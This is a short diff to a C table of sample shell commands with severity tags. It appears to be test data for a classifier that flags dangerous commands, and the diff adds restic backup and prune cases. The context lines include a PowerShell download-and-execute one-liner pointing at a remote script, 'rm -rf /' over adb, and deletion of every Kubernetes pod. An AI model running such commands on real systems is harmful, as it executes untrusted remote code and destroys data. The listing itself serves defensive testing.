@@ -127,6 +127,9 @@ static const struct sample samples[] = {
 	{ 'W', "kubectl delete $(kubectl get pods -o name)" },
 	{ 'E', "powershell -Command \"[Net.ServicePointManager]::SecurityProtocol = 3072; iex "
 	       "((New-Object Net.WebClient).DownloadString('https://x.y/i.ps1'))\"" },
+	{ 'W', "restic -r \1 forget --prune \1" },
+	{ '-', "restic -r \1 forget --dry-run --keep-last 3" },
+	{ '-', "restic backup /data" },
 	{ 'E', "adb -s emulator shell rm -rf /" },
 	{ 'W', "lxc-destroy -n \1" },
 	{ '-', "lxc-stop -n \1" },
